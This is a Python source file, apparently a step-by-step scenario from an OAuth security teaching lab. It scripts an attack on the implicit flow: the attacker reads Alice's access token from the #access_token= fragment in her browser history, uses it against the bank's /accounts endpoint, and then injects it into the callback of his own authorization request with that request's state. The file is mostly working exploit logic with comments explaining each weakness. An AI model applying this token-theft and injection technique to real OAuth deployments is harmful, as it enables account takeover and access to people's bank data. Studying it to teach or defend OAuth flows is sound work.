"""A token is read in a history, spent at the bank, and put into the attacker's own tab."""

from urllib.parse import urlencode

from labs.chromium import BrowserStage
from labs.people import parameters_in
from labs.stage import Stage, Stuck
from labs.steps import step


@step("Alice", by_hand="{balance}/")
def alice_connects(stage: BrowserStage) -> None:
    """Connect Balance to the bank: sign in as alice, and allow. Look at the address bar."""
    balance = stage.alice.go(f"{stage.here.balance}/")
    if balance.tab.locator('script[src="/js/2013.js"]').count():
        balance.click("Connect your bank", leads_to=stage.here.auth)
    else:  # this Balance does not ask for tokens in URLs any more: a link in its name does
        no_challenge = {"code_challenge": "", "code_challenge_method": ""}
        balance.go(stage.app_asks("balance", response_type="token", **no_challenge))
    balance.agree().rest()


@step("attacker", asks="the URL of the callback with #access_token= in it: the browser shows it")
def reads_the_history(stage: Stage) -> None:
    """Read the URL in the browser's history, and ask the bank with the token in it."""
    # A code in this place would have been used up by now. A token works until it expires.
    response = stage.leak("history", stage.given or stage.alice.visited("/callback"))
    stage.kept["token"] = response.get("access_token", "")
    stage.attacker.bank("GET", "/accounts", stage.kept["token"])


@step("attacker", asks="a URL with state= in it, from a private window in which Balance has just asked Bank ID")
def puts_it_into_his_own_tab(stage: BrowserStage) -> None:
    """Begin at Balance in a window of the attacker's, and open its callback there with Alice's token."""
    if not stage.kept.get("token"):
        raise Stuck("the attacker holds no token")
    if stage.given:
        stage.onward = injected(stage, stage.given)
        return
    mallory = (
        stage.mallory_in_browser().go(f"{stage.here.balance}/").click("Connect your bank", leads_to=stage.here.auth)
    )
    mallory.go(injected(stage, mallory.address)).rest()


def injected(stage: Stage, asked_at: str) -> str:
    """Return the authorization response to the attacker's own request, with Alice's token in it."""
    request = parameters_in(asked_at).get("next", asked_at)  # the sign-in page carries it in `next`
    response = {
        "access_token": stage.kept["token"],
        "token_type": "Bearer",
        # The `state` is that of his own request, and right: nothing ties the token to it.
        "state": parameters_in(request).get("state", ""),
    }
    return f"{stage.callback('balance')}#{urlencode(response)}"
